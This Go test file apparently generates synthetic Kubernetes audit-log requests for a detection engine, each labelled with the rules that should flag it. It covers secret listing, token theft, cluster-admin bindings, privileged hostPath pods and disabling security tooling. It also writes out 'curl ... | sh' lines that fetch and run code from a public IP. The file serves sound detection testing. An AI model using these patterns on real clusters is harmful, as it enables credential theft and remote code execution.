package detect_test

import (
	"fmt"
	"math/rand"
	"time"
)

// genHeldoutAttacks writes one request per technique (a burst where the
// technique is a burst); expect names the rules any of which must label it.
func genHeldoutAttacks() []byte {
	g := &hgen{r: rand.New(rand.NewSource(4242)), t: time.Date(2026, 3, 2, 13, 0, 0, 0, time.UTC), prefix: "attack"}
	mallory := "mallory@acme.io"
	mgr := []string{"oidc:engineers", "system:authenticated"}
	vpn := []string{"10.8.0.91"}
	pub := []string{"185.220.101.47"}
	kUA := "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350"
	ksm, ksmG := hsa("kube-system", "kube-state-metrics")
	nginx, nginxG := hsa("ingress-nginx", "ingress-nginx")
	cmInj, cmInjG := hsa("cert-manager", "cert-manager-cainjector")
	argo, argoG := hsa("argocd", "argocd-application-controller")
	velero, veleroG := hsa("velero", "velero")
	cilium, ciliumG := hsa("kube-system", "cilium")
	def, defG := hsa("shop", "default")
	podIP := []string{"100.64.7.19"}
	node := "system:node:ip-10-20-1-14.ec2.internal"
	nodeG := []string{"system:nodes", "system:authenticated"}

	privPod := func(ns, name string, extra map[string]any, sc map[string]any) map[string]any {
		return podBody(ns, name, "", podSpec([]any{ctr("x", "docker.io/library/alpine:3.20", sc)}, extra), nil, nil)
	}
	// Credential access.
	g.emit(hreq{user: mallory, groups: mgr, verb: "list", res: "secrets", ips: vpn, ua: kUA, query: "limit=500", expect: []string{"secret_list_all_namespaces", "secret_list_by_person"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "watch", res: "secrets", ips: vpn, ua: kUA, query: "watch=true", expect: []string{"secret_list_all_namespaces", "secret_list_by_person"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "list", res: "secrets", ips: vpn, ua: kUA, query: "watch=true&resourceVersion=0", expect: []string{"secret_list_all_namespaces", "secret_list_by_person"}})
	g.emit(hreq{user: def, groups: defG, verb: "list", res: "secrets", ips: podIP, ua: "curl/8.5.0", expect: []string{"secret_list_all_namespaces"}})
	g.emit(hreq{user: def, groups: defG, verb: "watch", res: "secrets", ips: podIP, ua: "python-requests/2.31.0", query: "watch=1", expect: []string{"secret_list_all_namespaces"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "list", res: "secrets", ns: "kube-system", ips: vpn, ua: kUA, expect: []string{"secret_list_kube_system"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "get", res: "secrets", ns: "kube-system", name: "aws-secret", ips: vpn, ua: kUA, expect: []string{"secret_get_kube_system"}})
	for i := 0; i < 25; i++ {
		var exp []string
		if i >= 12 {
			exp = []string{"secret_read_burst"}
		}
		g.emit(hreq{user: def, groups: defG, verb: "get", res: "secrets", ns: fmt.Sprintf("tenant-%02d", i), name: "db-credentials", ips: podIP, ua: "Go-http-client/2.0", expect: exp})
	}
	g.emit(hreq{user: mallory, groups: mgr, verb: "create", res: "serviceaccounts", sub: "token", ns: "kube-system", name: "clusterrole-aggregation-controller", ips: vpn, ua: kUA, expect: []string{"serviceaccount_token_create"}})
	g.emit(hreq{user: def, groups: defG, verb: "create", res: "serviceaccounts", sub: "token", ns: "argocd", name: "argocd-application-controller", ips: podIP, ua: "curl/8.5.0", expect: []string{"serviceaccount_token_create"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "create", res: "pods", sub: "exec", ns: "shop", name: "api-7c9-abcde", query: "command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken&container=api&stdout=true&stderr=true", ips: vpn, ua: kUA, expect: []string{"exec_service_account_token_read"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "create", res: "pods", sub: "exec", ns: "argocd", name: "argocd-application-controller-0", query: "command=sh&command=-c&command=cat+%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken&stdout=true", ips: vpn, ua: kUA, expect: []string{"exec_service_account_token_read"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "get", res: "secrets", ns: "kube-system", name: "kube-proxy-token-x7k2p", ips: vpn, ua: kUA, expect: []string{"secret_get_kube_system"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "create", res: "secrets", ns: "kube-system", ips: vpn, ua: kUA, level: "Request",
		body:   map[string]any{"kind": "Secret", "apiVersion": "v1", "metadata": map[string]any{"name": "ops-token", "annotations": map[string]any{"kubernetes.io/service-account.name": "generic-garbage-collector"}}, "type": "kubernetes.io/service-account-token"},
		expect: []string{"legacy_token_secret_kube_system"}})
	// Stolen add-on tokens used for what the add-on never does.
	g.emit(hreq{user: ksm, groups: ksmG, verb: "create", group: "rbac.authorization.k8s.io", res: "clusterrolebindings", ips: podIP, ua: "kubectl/v1.29.0 (linux/amd64) kubernetes/abc", level: "Request",
		body: binding("ClusterRoleBinding", "ksm-admin", "", "cluster-admin", subj("ServiceAccount", "kube-state-metrics", "kube-system")), expect: []string{"clusterrolebinding_privileged_role", "clusterrolebinding_create"}})
	g.emit(hreq{user: nginx, groups: nginxG, verb: "create", res: "pods", sub: "exec", ns: "payments", name: "postgres-0", query: "command=psql&container=postgres&stdin=true&tty=true", ips: podIP, ua: "kubectl/v1.29.0", expect: []string{"pod_exec"}})
	g.emit(hreq{user: cmInj, groups: cmInjG, verb: "update", group: "admissionregistration.k8s.io", res: "mutatingwebhookconfigurations", name: "cert-manager-webhook", ips: podIP, ua: "cert-manager-cainjector/v1.15.3", level: "Request",
		body: webhookBody("MutatingWebhookConfiguration", "cert-manager-webhook", "evil", "collector", "webhook.cert-manager.io"), expect: []string{"admission_webhook_change"}})
	g.emit(hreq{user: cmInj, groups: cmInjG, verb: "create", group: "admissionregistration.k8s.io", res: "mutatingwebhookconfigurations", ips: podIP, ua: "cert-manager-cainjector/v1.15.3", level: "Request",
		body: webhookBody("MutatingWebhookConfiguration", "zz-sidecar", "default", "injector", "inject.example.com"), expect: []string{"admission_webhook_change"}})
	g.emit(hreq{user: ksm, groups: ksmG, verb: "list", res: "secrets", ips: pub, ua: "kube-state-metrics/v2.13.0", expect: []string{"system_principal_public_ip", "secret_read_unusual_client"}})
	g.emit(hreq{user: argo, groups: argoG, verb: "list", res: "secrets", ips: pub, ua: "curl/8.5.0", expect: []string{"system_principal_public_ip", "secret_read_unusual_client"}})
	g.emit(hreq{user: velero, groups: veleroG, verb: "create", res: "pods", ns: "velero", ips: podIP, ua: "kubectl/v1.29.0", level: "Request",
		body: privPod("velero", "restore-helper", map[string]any{"hostPID": true, "volumes": []any{map[string]any{"name": "host", "hostPath": map[string]any{"path": "/"}}}}, map[string]any{"privileged": true}), expect: []string{"privileged_pod_create", "pod_sensitive_hostpath_mount"}})
	g.emit(hreq{user: cilium, groups: ciliumG, verb: "patch", res: "nodes", name: "ip-10-20-1-14.ec2.internal", ips: podIP, ua: "kubectl/v1.29.0", level: "Request",
		body: map[string]any{"metadata": map[string]any{"labels": map[string]any{"node-role.kubernetes.io/control-plane": ""}}, "spec": map[string]any{"taints": []any{}}}, expect: []string{"node_patch_unexpected"}})
	g.emit(hreq{user: argo, groups: argoG, verb: "delete", group: "apps", res: "daemonsets", ns: "falco", name: "falco", ips: podIP, ua: "curl/8.5.0", expect: []string{"security_tooling_disabled"}})
	kbg, kbgG := hsa("kyverno", "kyverno-background-controller")
	g.emit(hreq{user: kbg, groups: kbgG, verb: "create", group: "rbac.authorization.k8s.io", res: "clusterrolebindings", ips: podIP, ua: "curl/8.5.0", level: "Request",
		body: binding("ClusterRoleBinding", "kyverno-x", "", "cluster-admin", subj("ServiceAccount", "default", "shop")), expect: []string{"clusterrolebinding_privileged_role"}})
	eso, esoG := hsa("external-secrets", "external-secrets")
	g.emit(hreq{user: eso, groups: esoG, verb: "create", res: "serviceaccounts", sub: "token", ns: "kube-system", name: "generic-garbage-collector", ips: podIP, ua: "curl/8.5.0", expect: []string{"serviceaccount_token_create"}})
	ds, dsG := hsa("kube-system", "daemon-set-controller")
	g.emit(hreq{user: ds, groups: dsG, verb: "create", group: "rbac.authorization.k8s.io", res: "clusterrolebindings", ips: pub, ua: "curl/8.5.0", level: "Request",
		body: binding("ClusterRoleBinding", "ds-x", "", "cluster-admin", subj("User", "mallory@acme.io", "")), expect: []string{"clusterrolebinding_privileged_role", "system_principal_public_ip"}})
	g.emit(hreq{user: def, groups: defG, verb: "get", res: "secrets", ns: "kube-system", name: "cilium-ca", ips: podIP, ua: "Go-http-client/2.0", expect: []string{"secret_get_kube_system"}})
	// Tokens of add-ons that live in kube-system.
	cdns, cdnsG := hsa("kube-system", "coredns")
	g.emit(hreq{user: cdns, groups: cdnsG, verb: "list", res: "secrets", ips: podIP, ua: "coredns/v1.11.3 (linux/amd64) kubernetes/CoreDNS", expect: []string{"secret_list_all_namespaces"}})
	ms, msG := hsa("kube-system", "metrics-server")
	g.emit(hreq{user: ms, groups: msG, verb: "create", group: "apps", res: "daemonsets", ns: "kube-system", ips: podIP, ua: "kubectl/v1.29.0", level: "Request",
		body:   workloadBody("DaemonSet", "kube-system", "node-debugger", podSpec([]any{ctr("d", "docker.io/library/busybox:1.36", map[string]any{"privileged": true})}, map[string]any{"hostPID": true, "volumes": []any{map[string]any{"name": "r", "hostPath": map[string]any{"path": "/"}}}})),
		expect: []string{"privileged_pod_create", "pod_sensitive_hostpath_mount", "daemonset_create"}})
	awsn, awsnG := hsa("kube-system", "aws-node")
	g.emit(hreq{user: awsn, groups: awsnG, verb: "create", group: "rbac.authorization.k8s.io", res: "rolebindings", ns: "payments", ips: []string{"10.20.1.14"}, ua: "aws-node/v1.18.3 (linux/amd64) kubernetes/$Format", level: "Request",
		body: binding("RoleBinding", "x", "payments", "edit", subj("ServiceAccount", "default", "shop")), expect: []string{"rbac_binding_by_serviceaccount"}})
	g.emit(hreq{user: awsn, groups: awsnG, verb: "delete", group: "apps", res: "daemonsets", ns: "falco", name: "falco", ips: []string{"10.20.1.14"}, ua: "aws-node/v1.18.3 (linux/amd64) kubernetes/$Format", expect: []string{"security_tooling_disabled"}})
	// Privilege escalation.
	g.emit(hreq{user: mallory, groups: mgr, verb: "create", res: "pods", ns: "shop", ips: vpn, ua: kUA, level: "Request", body: privPod("shop", "debug", nil, map[string]any{"privileged": true}), expect: []string{"privileged_pod_create"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "create", res: "pods", ns: "shop", ips: vpn, ua: kUA, level: "Request", body: privPod("shop", "hp", map[string]any{"volumes": []any{map[string]any{"name": "h", "hostPath": map[string]any{"path": "/"}}}}, nil), expect: []string{"pod_sensitive_hostpath_mount"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "create", res: "pods", ns: "shop", ips: vpn, ua: kUA, level: "Request", body: privPod("shop", "hp2", map[string]any{"volumes": []any{map[string]any{"name": "h", "hostPath": map[string]any{"path": "/var/run/containerd/containerd.sock"}}}}, nil), expect: []string{"pod_sensitive_hostpath_mount"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "create", res: "pods", ns: "shop", ips: vpn, ua: kUA, level: "Request", body: privPod("shop", "pid", map[string]any{"hostPID": true}, nil), expect: []string{"pod_host_pid"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "create", group: "apps", res: "deployments", ns: "shop", ips: vpn, ua: kUA, level: "Request",
		body: workloadBody("Deployment", "shop", "cache", podSpec([]any{ctr("c", "alpine", map[string]any{"privileged": true})}, map[string]any{"hostNetwork": true, "hostPID": true})), expect: []string{"privileged_pod_create", "pod_host_pid"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "create", group: "rbac.authorization.k8s.io", res: "clusterrolebindings", ips: vpn, ua: kUA, level: "Request",
		body: binding("ClusterRoleBinding", "mallory-admin", "", "cluster-admin", subj("User", mallory, "")), expect: []string{"clusterrolebinding_privileged_role"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "create", group: "rbac.authorization.k8s.io", res: "rolebindings", ns: "kube-system", ips: vpn, ua: kUA, level: "Request",
		body: binding("RoleBinding", "x", "kube-system", "cluster-admin", subj("User", mallory, "")), expect: []string{"rolebinding_privileged_role"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "create", group: "rbac.authorization.k8s.io", res: "clusterroles", ips: vpn, ua: kUA, level: "Request",
		body: role("ClusterRole", "esc", "", prule(strs("rbac.authorization.k8s.io"), strs("clusterroles"), strs("bind", "escalate"))), expect: []string{"rbac_bind_escalate"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "create", group: "rbac.authorization.k8s.io", res: "clusterroles", ips: vpn, ua: kUA, level: "Request",
		body: role("ClusterRole", "imp", "", prule(strs(""), strs("users", "groups", "serviceaccounts"), strs("impersonate"))), expect: []string{"role_impersonate_grant"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "list", res: "secrets", ips: vpn, ua: kUA, imp: map[string]any{"username": "admin", "groups": strs("system:masters")}, expect: []string{"impersonation_privileged", "secret_list_all_namespaces"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "get", res: "pods", ns: "kube-system", ips: vpn, ua: kUA, code: 403, imp: map[string]any{"username": "system:admin"},
		msg: `users "system:admin" is forbidden: User "mallory@acme.io" cannot impersonate resource "users" in API group "" at the cluster scope`, expect: []string{"impersonation_denied"}})
	g.emit(hreq{user: "breakglass", groups: []string{"system:masters", "system:authenticated"}, verb: "list", res: "nodes", ips: pub, ua: kUA, expect: []string{"system_masters_unknown"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "create", group: "certificates.k8s.io", res: "certificatesigningrequests", ips: vpn, ua: kUA, level: "Request",
		body: map[string]any{"kind": "CertificateSigningRequest", "apiVersion": "certificates.k8s.io/v1", "metadata": map[string]any{"name": "m"}, "spec": map[string]any{"signerName": "kubernetes.io/kube-apiserver-client", "usages": strs("client auth"), "request": "LS0t"}}, expect: []string{"csr_client_cert_create"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "update", group: "certificates.k8s.io", res: "certificatesigningrequests", sub: "approval", name: "m", ips: vpn, ua: kUA, expect: []string{"csr_approve"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "patch", group: "rbac.authorization.k8s.io", res: "clusterrolebindings", name: "cluster-admin", ips: vpn, ua: kUA, level: "Request",
		body: jsonPatch(map[string]any{"op": "add", "path": "/subjects/-", "value": map[string]any{"kind": "User", "name": mallory, "apiGroup": "rbac.authorization.k8s.io"}}), expect: []string{"clusterrolebinding_privileged_role"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "patch", group: "rbac.authorization.k8s.io", res: "clusterroles", name: "view", ips: vpn, ua: kUA, level: "Request",
		body: jsonPatch(map[string]any{"op": "add", "path": "/rules/-", "value": map[string]any{"apiGroups": strs(""), "resources": strs("secrets"), "verbs": strs("get", "list", "watch")}}), expect: []string{"system_role_change"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "patch", group: "apps", res: "deployments", ns: "shop", name: "api", ips: vpn, ua: kUA, level: "Request",
		body: jsonPatch(map[string]any{"op": "add", "path": "/spec/template/spec/volumes/-", "value": map[string]any{"name": "host", "hostPath": map[string]any{"path": "/var/run/containerd/containerd.sock"}}}), expect: []string{"pod_sensitive_hostpath_mount"}})
	// Persistence.
	g.emit(hreq{user: mallory, groups: mgr, verb: "create", group: "apps", res: "daemonsets", ns: "kube-system", ips: vpn, ua: kUA, level: "Request",
		body: workloadBody("DaemonSet", "kube-system", "node-agent", podSpec([]any{ctr("a", "ghcr.io/x/agent:1", nil)}, nil)), expect: []string{"daemonset_create", "workload_in_system_namespace"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "create", group: "batch", res: "cronjobs", ns: "kube-system", ips: vpn, ua: kUA, level: "Request",
		body: workloadBody("CronJob", "kube-system", "cleanup", podSpec([]any{ctr("a", "alpine", nil)}, nil)), expect: []string{"cronjob_create_modify", "workload_in_system_namespace"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "create", group: "admissionregistration.k8s.io", res: "mutatingwebhookconfigurations", ips: vpn, ua: kUA, level: "Request",
		body: webhookBody("MutatingWebhookConfiguration", "pod-defaults", "default", "hook", "pods.example.com"), expect: []string{"admission_webhook_change"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "create", res: "pods", ns: "kube-system", ips: vpn, ua: kUA, level: "Request",
		body: podBody("kube-system", "kube-proxy-fix", "", podSpec([]any{ctr("k", "docker.io/attacker/kp:1", nil)}, nil), nil, nil), expect: []string{"pod_in_system_namespace", "pod_untrusted_image_system_namespace"}})
	g.emit(hreq{user: node, groups: nodeG, verb: "create", res: "pods", ns: "kube-system", ips: pub, ua: kubeletUA, level: "Request",
		body:   podBody("kube-system", "etcd-backdoor", "", podSpec([]any{ctr("x", "alpine", map[string]any{"privileged": true})}, map[string]any{"nodeName": "ip-10-20-1-14.ec2.internal", "hostNetwork": true, "volumes": []any{map[string]any{"name": "r", "hostPath": map[string]any{"path": "/"}}}}), nil, map[string]any{"kubernetes.io/config.mirror": "abc"}),
		expect: []string{"privileged_pod_create", "pod_sensitive_hostpath_mount", "node_credential_public_ip"}})
	g.emit(hreq{user: node, groups: nodeG, verb: "create", res: "pods", ns: "kube-system", ips: []string{"10.20.1.14"}, ua: kubeletUA, level: "Request",
		body:   podBody("kube-system", "x-cp-1", "", podSpec([]any{ctr("x", "alpine", map[string]any{"privileged": true})}, map[string]any{"nodeName": "cp-1", "hostPID": true, "volumes": []any{map[string]any{"name": "r", "hostPath": map[string]any{"path": "/"}}}}), nil, map[string]any{"kubernetes.io/config.mirror": "abc"}),
		expect: []string{"privileged_pod_create", "pod_sensitive_hostpath_mount"}})
	// Defense evasion.
	g.emit(hreq{user: mallory, groups: mgr, verb: "patch", group: "apps", res: "deployments", sub: "scale", ns: "kyverno", name: "kyverno-admission-controller", ips: vpn, ua: kUA, level: "Request", body: map[string]any{"spec": map[string]any{"replicas": 0}}, expect: []string{"security_tooling_disabled"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "delete", group: "apps", res: "daemonsets", ns: "falco", name: "falco", ips: vpn, ua: kUA, expect: []string{"security_tooling_disabled"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "delete", group: "apps", res: "deployments", ns: "gatekeeper-system", name: "gatekeeper-controller-manager", ips: vpn, ua: kUA, expect: []string{"security_tooling_disabled"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "delete", group: "admissionregistration.k8s.io", res: "validatingwebhookconfigurations", name: "gatekeeper-validating-webhook-configuration", ips: vpn, ua: kUA, expect: []string{"admission_webhook_change", "security_tooling_disabled"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "deletecollection", res: "events", ns: "shop", ips: vpn, ua: kUA, expect: []string{"events_delete"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "delete", group: "events.k8s.io", res: "events", ns: "shop", name: "debug.17f", ips: vpn, ua: kUA, expect: []string{"events_delete"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "delete", group: "admissionregistration.k8s.io", res: "validatingadmissionpolicybindings", name: "deny-privileged", ips: vpn, ua: kUA, expect: []string{"admission_policy_change"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "patch", res: "namespaces", name: "shop", ips: vpn, ua: kUA, level: "Request",
		body: map[string]any{"metadata": map[string]any{"labels": map[string]any{"pod-security.kubernetes.io/enforce": "privileged"}}}, expect: []string{"pod_security_relaxed"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "delete", group: "networking.k8s.io", res: "networkpolicies", ns: "payments", name: "default-deny", ips: vpn, ua: kUA, expect: []string{"networkpolicy_delete"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "update", res: "configmaps", ns: "kube-system", name: "kube-proxy", ips: vpn, ua: kUA, expect: []string{"dataplane_config_change"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "patch", res: "configmaps", ns: "kube-system", name: "coredns", ips: vpn, ua: kUA, expect: []string{"coredns_config_change"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "patch", group: "apiregistration.k8s.io", res: "apiservices", name: "v1beta1.metrics.k8s.io", ips: vpn, ua: kUA, level: "Request",
		body: map[string]any{"spec": map[string]any{"service": map[string]any{"name": "metrics-proxy", "namespace": "shop"}}}, expect: []string{"apiservice_repointed"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "create", res: "persistentvolumes", ips: vpn, ua: kUA, level: "Request",
		body: map[string]any{"kind": "PersistentVolume", "apiVersion": "v1", "metadata": map[string]any{"name": "hostroot"}, "spec": map[string]any{"hostPath": map[string]any{"path": "/"}, "capacity": map[string]any{"storage": "1Gi"}}}, expect: []string{"pv_sensitive_hostpath"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "update", res: "configmaps", ns: "kube-system", name: "aws-auth", ips: vpn, ua: kUA, expect: []string{"aws_auth_change"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "delete", group: "kyverno.io", res: "clusterpolicies", name: "disallow-host-path", ips: vpn, ua: kUA, expect: []string{"policy_engine_change"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "create", group: "kyverno.io", version: "v2", res: "policyexceptions", ns: "shop", ips: vpn, ua: kUA, expect: []string{"policy_engine_change"}})
	// Discovery.
	for i, k := range hkinds("pods", "secrets", "configmaps", "services", "nodes", "namespaces", "serviceaccounts", "endpoints", "persistentvolumes", "persistentvolumeclaims", "apps/v1/deployments", "apps/v1/daemonsets", "apps/v1/statefulsets", "rbac.authorization.k8s.io/v1/clusterroles", "rbac.authorization.k8s.io/v1/clusterrolebindings", "rbac.authorization.k8s.io/v1/roles", "rbac.authorization.k8s.io/v1/rolebindings", "batch/v1/cronjobs", "batch/v1/jobs", "networking.k8s.io/v1/networkpolicies", "networking.k8s.io/v1/ingresses", "storage.k8s.io/v1/storageclasses") {
		var exp []string
		if i >= 16 {
			exp = []string{"permission_enumeration"}
		}
		if k.res == "secrets" {
			exp = []string{"secret_list_all_namespaces"}
		}
		g.emit(hreq{user: def, groups: defG, verb: "list", group: k.group, version: k.version, res: k.res, ips: podIP, ua: "python-requests/2.31.0", expect: exp})
	}
	g.emit(hreq{user: def, groups: defG, verb: "create", group: "authorization.k8s.io", res: "selfsubjectrulesreviews", ips: podIP, ua: "kubectl/v1.29.0", expect: []string{"selfsubject_review"}})
	g.emit(hreq{user: "system:anonymous", groups: []string{"system:unauthenticated"}, verb: "list", res: "pods", ips: pub, ua: "curl/7.88.1", expect: []string{"anonymous_request"}})
	g.emit(hreq{user: "system:anonymous", groups: []string{"system:unauthenticated"}, verb: "get", res: "secrets", ns: "default", name: "x", ips: pub, ua: "curl/7.88.1", expect: []string{"anonymous_request"}})
	g.emit(hreq{user: "system:anonymous", groups: []string{"system:unauthenticated"}, verb: "create", res: "pods", ns: "default", ips: pub, ua: "curl/7.88.1", expect: []string{"anonymous_write", "anonymous_request"}})
	g.emit(hreq{user: def, groups: defG, verb: "list", res: "pods", ips: podIP, ua: "curl/8.5.0", expect: []string{"serviceaccount_pod_list_unusual_client"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "list", res: "pods", ips: vpn, ua: "kube-hunter/0.6.8", expect: []string{"offensive_user_agent"}})
	g.emit(hreq{user: def, groups: defG, verb: "get", res: "pods", ns: "shop", ips: podIP, ua: "peirates/1.1.21", expect: []string{"offensive_user_agent"}})
	// Lateral movement.
	g.emit(hreq{user: mallory, groups: mgr, verb: "create", res: "pods", sub: "attach", ns: "payments", name: "api-0", query: "container=api&stdin=true&tty=true", ips: vpn, ua: kUA, expect: []string{"pod_exec"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "get", res: "pods", sub: "exec", ns: "payments", name: "api-0", query: "command=%2Fbin%2Fbash&stdin=true&tty=true", ips: vpn, ua: kUA, expect: []string{"pod_exec"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "create", res: "pods", sub: "portforward", ns: "payments", name: "postgres-0", ips: vpn, ua: kUA, expect: []string{"pod_portforward"}})
	g.emit(hreq{user: def, groups: defG, verb: "get", res: "nodes", sub: "proxy", name: "ip-10-20-1-14.ec2.internal", uri: "/api/v1/nodes/ip-10-20-1-14.ec2.internal/proxy/pods", ips: podIP, ua: "curl/8.5.0", expect: []string{"kubelet_nodes_proxy"}})
	g.emit(hreq{user: def, groups: defG, verb: "create", res: "nodes", sub: "proxy", name: "ip-10-20-1-14.ec2.internal", uri: "/api/v1/nodes/ip-10-20-1-14.ec2.internal/proxy/run/kube-system/kube-proxy-x/kube-proxy?cmd=id", ips: podIP, ua: "curl/8.5.0", expect: []string{"kubelet_nodes_proxy"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "create", res: "pods", sub: "exec", ns: "shop", name: "api-1", query: "command=sh&command=-c&command=curl+-s+http%3A%2F%2F185.220.101.47%2Fx+%7C+sh", ips: vpn, ua: kUA, expect: []string{"exec_suspicious_command"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "create", res: "pods", sub: "exec", ns: "shop", name: "api-1", query: "command=tar&command=cf&command=-&command=%2Fdata&container=api&stdout=true", ips: vpn, ua: kUA, expect: []string{"kubectl_cp_from_pod"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "patch", res: "pods", sub: "ephemeralcontainers", ns: "payments", name: "api-0", ips: vpn, ua: kUA, level: "Request",
		body: map[string]any{"spec": map[string]any{"ephemeralContainers": []any{map[string]any{"name": "debugger", "image": "busybox", "targetContainerName": "api"}}}}, expect: []string{"ephemeral_container_add"}})
	for i, ns := range []string{"payments", "shop", "identity", "data", "frontend", "billing", "orders"} {
		exp := []string{"pod_exec"}
		if i >= 5 {
			exp = []string{"pod_exec_repeated"}
		}
		g.emit(hreq{user: def, groups: defG, verb: "create", res: "pods", sub: "exec", ns: ns, name: "api-0", query: "command=id&stdout=true", ips: podIP, ua: "kubectl/v1.29.0", expect: exp})
	}
	// Where the request really came from.
	g.emit(hreq{user: def, groups: defG, verb: "get", res: "secrets", ns: "shop", name: "db", ips: []string{"10.20.1.14", "185.220.101.47"}, ua: "curl/8.5.0", expect: []string{"forwarded_for_forged", "system_principal_public_ip", "threat_source_ip"}})
	g.emit(hreq{user: argo, groups: argoG, verb: "list", res: "pods", ips: []string{"10.0.0.1", "203.0.113.77"}, ua: "curl/8.5.0", expect: []string{"forwarded_for_forged", "system_principal_public_ip"}})
	g.emit(hreq{user: node, groups: nodeG, verb: "get", res: "secrets", ns: "shop", name: "db", ips: []string{"198.51.100.23"}, ua: kubeletUA, expect: []string{"node_credential_public_ip"}})
	g.emit(hreq{user: node, groups: nodeG, verb: "list", res: "pods", ips: []string{"10.20.1.14", "45.83.64.11"}, ua: "kubectl/v1.29.0", expect: []string{"node_credential_public_ip"}})
	for i := 0; i < 30; i++ {
		var exp []string
		if i >= 20 {
			exp = []string{"forbidden_burst_source", "forbidden_from_public_ip"}
		}
		g.emit(hreq{user: def, groups: defG, verb: g.pick([]string{"get", "list"}), res: g.pick([]string{"secrets", "configmaps", "pods", "nodes"}), ns: "kube-system", ips: []string{fmt.Sprintf("10.0.%d.%d", i, i+1), "203.0.113.80"}, ua: "curl/8.5.0", code: 403, msg: "forbidden", expect: exp})
	}
	for i := 0; i < 30; i++ {
		var exp []string
		if i >= 20 {
			exp = []string{"brute_force_uri", "unauthenticated_request", "forbidden_burst_source"}
		}
		g.emit(hreq{user: "", verb: "get", uri: fmt.Sprintf("/api/v1/namespaces/ns%d/secrets", i), ips: []string{"198.51.100.200"}, ua: "Go-http-client/1.1", code: 401, expect: exp})
	}
	g.emit(hreq{user: mallory, groups: mgr, verb: "get", res: "secrets", ns: "payments", name: "stripe", ips: vpn, ua: kUA, code: 403, msg: "forbidden", expect: []string{"secret_access_denied"}})
	// Trust the cluster places in its own machinery: signers, schedulers,
	// heartbeats, boot scripts, backups, GitOps sources, cloud identities.
	g.emit(hreq{user: mallory, groups: mgr, verb: "update", group: "certificates.k8s.io", res: "certificatesigningrequests", sub: "status", name: "m", ips: vpn, ua: kUA, level: "Request",
		body: map[string]any{"kind": "CertificateSigningRequest", "apiVersion": "certificates.k8s.io/v1", "metadata": map[string]any{"name": "m"}, "status": map[string]any{"certificate": "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0t"}}, expect: []string{"csr_signed_by_non_signer"}})
	g.emit(hreq{user: def, groups: defG, verb: "create", res: "pods", sub: "binding", ns: "shop", name: "cache-0", ips: podIP, ua: "python-requests/2.31.0", level: "Request",
		body: map[string]any{"kind": "Binding", "apiVersion": "v1", "metadata": map[string]any{"name": "cache-0"}, "target": map[string]any{"kind": "Node", "name": "cp-1"}}, expect: []string{"pod_binding_by_non_scheduler"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "create", res: "pods", ns: "shop", ips: vpn, ua: kUA, level: "Request",
		body: podBody("shop", "cp-debug", "", podSpec([]any{ctr("c", "alpine", nil)}, map[string]any{"nodeSelector": map[string]any{"node-role.kubernetes.io/control-plane": ""}, "tolerations": []any{map[string]any{"operator": "Exists"}}}), nil, nil), expect: []string{"workload_on_control_plane"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "update", group: "coordination.k8s.io", res: "leases", ns: "kube-node-lease", name: "ip-10-20-1-14.ec2.internal", ips: vpn, ua: kUA, expect: []string{"node_lease_forged"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "patch", group: "karpenter.k8s.aws", res: "ec2nodeclasses", name: "default", ips: vpn, ua: kUA, level: "Request",
		body: map[string]any{"spec": map[string]any{"userData": "#!/bin/bash\ncurl -s http://185.220.101.47/n | sh"}}, expect: []string{"node_bootstrap_config_change"}})
	g.emit(hreq{user: mallory, groups: mgr, verb: "create", group: "velero.io", res: "backupstoragelocations", ns: "velero", name: "offsite", ips: vpn, ua: "velero/v1.14.0 (linux/amd64) 2fc6300", expect: []string{"backup_tampering"}})
